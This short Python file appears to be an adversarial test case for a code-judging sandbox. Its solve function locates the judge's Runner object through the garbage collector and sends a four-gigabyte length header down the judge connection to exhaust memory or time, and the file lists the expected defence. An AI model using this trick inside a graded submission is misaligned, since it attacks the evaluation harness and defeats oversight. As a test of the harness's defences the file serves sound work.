"""Announces a message of four gigabytes.

Mechanism: sends the largest possible length, and a few bytes.
Surface: the connection from box to judge.
Gain: the judge's memory, or its time.
Challenge: twice
Defence: runtime_error
"""

import gc
import time

runner = next(candidate for candidate in gc.get_objects() if type(candidate).__name__ == "Runner")


def solve(x, out, n):
    runner.connection.sendall(b"\xff\xff\xff\xff" + bytes(1000))
    time.sleep(60)
